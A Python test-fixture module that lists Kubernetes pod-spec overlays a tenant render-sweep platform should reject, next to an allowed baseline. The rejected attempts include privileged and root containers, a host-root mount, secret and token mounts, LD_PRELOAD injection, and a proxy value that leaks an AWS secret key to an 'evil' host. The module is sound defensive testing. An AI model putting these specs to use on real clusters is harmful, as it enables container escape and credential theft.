"""Specs of sweeps that want more than a tenant may have, each with the field that its refusal names."""

from __future__ import annotations

from typing import Any, Final

CLAIM: Final = "textures"
"""A PersistentVolumeClaim that overlays may mount where a platform lists it."""
LAB_TAINT: Final = {"key": "lab.example/pool", "operator": "Exists", "effect": "NoSchedule"}
"""A taint that overlays may tolerate where a platform lists it."""
PRIORITY: Final = "render-low"
"""A priority class that sweeps may name where a platform lists it."""
REFERENCE: Final = {"name": "dataset-store", "key": "AWS_SECRET_ACCESS_KEY"}

Spec = dict[str, Any]


def _build_overlay(**spec: Any) -> Spec:
    return {"podTemplate": {"spec": spec}}


def _build_container(**fields: Any) -> Spec:
    return _build_overlay(containers=[{"name": "render", **fields}])


def _build_variable(name: str, value: str) -> Spec:
    return _build_container(env=[{"name": name, "value": value}])


def _build_volume(**source: Any) -> Spec:
    return _build_overlay(volumes=[{"name": "more", **source}])


def _build_annotation(key: str, value: str) -> Spec:
    return {"podTemplate": {"metadata": {"annotations": {key: value}}}}


def _build_affinity(**term: Any) -> Spec:
    near = {"topologyKey": "kubernetes.io/hostname", "labelSelector": {}, **term}
    return _build_overlay(affinity={"podAntiAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [near]}})


_APPARMOR: Final = "container.apparmor.security.beta.kubernetes.io/render"
_PROBE: Final = {"httpGet": {"host": "10.0.0.1", "port": 443}}
_SHELL: Final = {"name": "shell", "image": "localhost/synth-renderer:test", "command": ["sh", "-c", "id"]}
_TERM: Final = "podAntiAffinity.requiredDuringSchedulingIgnoredDuringExecution[0]"
_SPEC: Final = "podTemplate.spec"
_RENDER: Final = f"{_SPEC}.containers[0]"
_VARIABLE: Final = f"{_RENDER}.env[0]"
_VOLUME: Final = f"{_SPEC}.volumes[0]"

ATTEMPTS: Final[dict[str, tuple[Spec, str]]] = {
    "apparmor": (_build_annotation(_APPARMOR, "x-Unconfined"), f"podTemplate.metadata.annotations.{_APPARMOR}"),
    "network": (
        _build_annotation("k8s.v1.cni.cncf.io/networks", "other"),
        "podTemplate.metadata.annotations.k8s.v1.cni.cncf.io/networks",
    ),
    "runtime": (
        _build_annotation("io.kubernetes.cri-o.Devices", "/dev/kvm"),
        "podTemplate.metadata.annotations.io.kubernetes.cri-o.Devices",
    ),
    "job-label": (
        {"podTemplate": {"metadata": {"labels": {"job-name": "other"}}}},
        "podTemplate.metadata.labels.job-name",
    ),
    "system-class": ({"priorityClassName": "system-node-critical"}, "priorityClassName"),
    "system-class-overlay": (
        _build_overlay(priorityClassName="system-node-critical"),
        f"{_SPEC}.priorityClassName",
    ),
    "other-class": ({"priorityClassName": "high"}, "priorityClassName"),
    "every-taint": (_build_overlay(tolerations=[{"operator": "Exists"}]), f"{_SPEC}.tolerations[0]"),
    "every-taint-gpu": ({"gpu": {"tolerations": [{"operator": "Exists"}]}}, "gpu.tolerations[0]"),
    "far-pods": (_build_affinity(namespaceSelector={}), f"{_SPEC}.affinity.{_TERM}.namespaceSelector"),
    "long-grace": (
        _build_overlay(terminationGracePeriodSeconds=864_000),
        f"{_SPEC}.terminationGracePeriodSeconds",
    ),
    "image-prefix": ({"image": "localhost/synth-renderer-evil:test"}, "image"),
    "image-tag": ({"image": "localhost/synth-renderer:test-evil"}, "image"),
    "claim": (_build_volume(persistentVolumeClaim={"claimName": "stranger"}), f"{_VOLUME}.persistentVolumeClaim"),
    "csi": (_build_volume(csi={"driver": "secrets-store.csi.k8s.io"}), f"{_VOLUME}.csi"),
    "secret-volume": (_build_volume(secret={"secretName": "dataset-store"}), f"{_VOLUME}.secret"),
    "config-volume": (_build_volume(configMap={"name": "code"}), f"{_VOLUME}.configMap"),
    "token": (
        _build_volume(projected={"sources": [{"serviceAccountToken": {"path": "token"}}]}),
        f"{_VOLUME}.projected",
    ),
    "ephemeral": (_build_volume(ephemeral={}), f"{_VOLUME}.ephemeral"),
    "host-path": (_build_volume(hostPath={"path": "/"}), f"{_VOLUME}.hostPath"),
    "own-volume": (
        _build_overlay(volumes=[{"name": "input", "persistentVolumeClaim": {"claimName": CLAIM}}]),
        _VOLUME,
    ),
    "code-mount": (
        _build_overlay(
            volumes=[{"name": "more", "persistentVolumeClaim": {"claimName": CLAIM}}],
            containers=[{"name": "render", "volumeMounts": [{"name": "more", "mountPath": "/mnt/../opt/synth"}]}],
        ),
        f"{_RENDER}.volumeMounts[0]",
    ),
    "liveness": (_build_container(livenessProbe=_PROBE), f"{_RENDER}.livenessProbe"),
    "startup": (_build_container(startupProbe=_PROBE), f"{_RENDER}.startupProbe"),
    "hook": (_build_container(lifecycle={"postStart": {"exec": {"command": ["id"]}}}), f"{_RENDER}.lifecycle"),
    "stop-hook": (_build_container(lifecycle={"preStop": _PROBE}), f"{_RENDER}.lifecycle"),
    "init": (_build_overlay(initContainers=[_SHELL]), f"{_SPEC}.initContainers"),
    "sidecar": (_build_overlay(initContainers=[{**_SHELL, "restartPolicy": "Always"}]), f"{_SPEC}.initContainers"),
    "command": (_build_container(command=["sh"]), f"{_RENDER}.command"),
    "image-overlay": (_build_container(image="evil:1"), f"{_RENDER}.image"),
    "port": (_build_container(ports=[{"containerPort": 1, "hostPort": 1}]), f"{_RENDER}.ports"),
    "privileged": (_build_container(securityContext={"privileged": True}), f"{_RENDER}.securityContext"),
    "root": (_build_overlay(securityContext={"runAsUser": 0}), f"{_SPEC}.securityContext"),
    "secret-key": (
        _build_container(env=[{"name": "X", "valueFrom": {"secretKeyRef": REFERENCE}}]),
        f"{_VARIABLE}.valueFrom",
    ),
    "config-key": (
        _build_container(env=[{"name": "X", "valueFrom": {"configMapKeyRef": {"name": "x", "key": "y"}}}]),
        f"{_VARIABLE}.valueFrom",
    ),
    "field": (
        _build_container(env=[{"name": "X", "valueFrom": {"fieldRef": {"fieldPath": "status.hostIP"}}}]),
        f"{_VARIABLE}.valueFrom",
    ),
    "secret-keys": (_build_container(envFrom=[{"secretRef": {"name": "dataset-store"}}]), f"{_RENDER}.envFrom"),
    "config-keys": (_build_container(envFrom=[{"configMapRef": {"name": "x"}}]), f"{_RENDER}.envFrom"),
    "expansion": (_build_variable("HTTPS_PROXY", "http://$(AWS_SECRET_ACCESS_KEY).evil:80"), f"{_VARIABLE}.value"),
    **{
        f"variable-{name.lower().replace('_', '-')}": (_build_variable(name, "x"), f"{_VARIABLE}.name")
        for name in (
            *("PYTHONPATH", "LD_PRELOAD", "AWS_ENDPOINT_URL", "SYNTH_ENGINE", "PATH", "HOME", "TMPDIR", "BASH_ENV"),
            *("BLENDER_USER_SCRIPTS", "NUMBA_CACHE_DIR", "NVIDIA_VISIBLE_DEVICES", "JOB_COMPLETION_INDEX"),
        )
    },
    "aliases": (_build_overlay(hostAliases=[{"ip": "10.0.0.1", "hostnames": ["store"]}]), f"{_SPEC}.hostAliases"),
    "dns": (_build_overlay(dnsConfig={"nameservers": ["10.0.0.1"]}), f"{_SPEC}.dnsConfig"),
    "dns-policy": (_build_overlay(dnsPolicy="None"), f"{_SPEC}.dnsPolicy"),
    "scheduler": (_build_overlay(schedulerName="mine"), f"{_SPEC}.schedulerName"),
    "node": (_build_overlay(nodeName="node"), f"{_SPEC}.nodeName"),
    "processes": (_build_overlay(shareProcessNamespace=True), f"{_SPEC}.shareProcessNamespace"),
    "host-network": (_build_overlay(hostNetwork=True), f"{_SPEC}.hostNetwork"),
    "host-users": (_build_overlay(hostUsers=False), f"{_SPEC}.hostUsers"),
    "subdomain": (_build_overlay(subdomain="store"), f"{_SPEC}.subdomain"),
    "hostname": (_build_overlay(hostname="store"), f"{_SPEC}.hostname"),
    "deadline": (_build_overlay(activeDeadlineSeconds=1), f"{_SPEC}.activeDeadlineSeconds"),
    "restart": (_build_overlay(restartPolicy="OnFailure"), f"{_SPEC}.restartPolicy"),
    "device-claims": (
        _build_overlay(resourceClaims=[{"name": "gpu", "resourceClaimName": "gpu"}]),
        f"{_SPEC}.resourceClaims",
    ),
    "account": (_build_overlay(serviceAccountName="default"), f"{_SPEC}.serviceAccountName"),
    "api-token": (_build_overlay(automountServiceAccountToken=True), f"{_SPEC}.automountServiceAccountToken"),
    "priority": (_build_overlay(priority=2_000_000_000), f"{_SPEC}.priority"),
    "preemption": (_build_overlay(preemptionPolicy="Never"), f"{_SPEC}.preemptionPolicy"),
}
"""Name of the attempt -> additions to the spec of a sweep, and the field of `spec` that the refusal names."""

ALLOWED: Final[Spec] = {
    "metadata": {
        "labels": {"team": "beads", "lab.example/cost": "a-1"},
        "annotations": {"cluster-autoscaler.kubernetes.io/safe-to-evict": "false", "lab.example/note": "any text"},
    },
    "spec": {
        "nodeSelector": {"kubernetes.io/os": "linux"},
        "affinity": {
            "nodeAffinity": {
                "requiredDuringSchedulingIgnoredDuringExecution": {
                    "nodeSelectorTerms": [{"matchExpressions": [{"key": "kubernetes.io/arch", "operator": "Exists"}]}]
                }
            },
            "podAntiAffinity": {
                "preferredDuringSchedulingIgnoredDuringExecution": [
                    {
                        "weight": 1,
                        "podAffinityTerm": {
                            "topologyKey": "kubernetes.io/hostname",
                            "labelSelector": {"matchLabels": {"app": "store"}},
                        },
                    }
                ]
            },
        },
        "topologySpreadConstraints": [
            {
                "maxSkew": 2,
                "topologyKey": "topology.kubernetes.io/zone",
                "whenUnsatisfiable": "ScheduleAnyway",
                "labelSelector": {"matchLabels": {"team": "beads"}},
            }
        ],
        "tolerations": [LAB_TAINT],
        "priorityClassName": PRIORITY,
        "imagePullSecrets": [{"name": "registry"}],
        "volumes": [{"name": "more", "persistentVolumeClaim": {"claimName": CLAIM, "readOnly": True}}],
        "containers": [
            {
                "name": "render",
                "env": [{"name": "NO_PROXY", "value": ".svc,.cluster.local,10.0.0.0/8"}],
                "resources": {"limits": {"memory": "6Gi"}},
                "volumeMounts": [{"name": "more", "mountPath": "/mnt/textures", "readOnly": True}],
            }
        ],
    },
}
"""A pod template with everything that needs no trust, where the platform lists CLAIM, LAB_TAINT and PRIORITY."""
LISTED: Final[Spec] = {"tolerations": [LAB_TAINT], "claims": [CLAIM]}
"""`sweeps.overlay` of the chart for ALLOWED."""
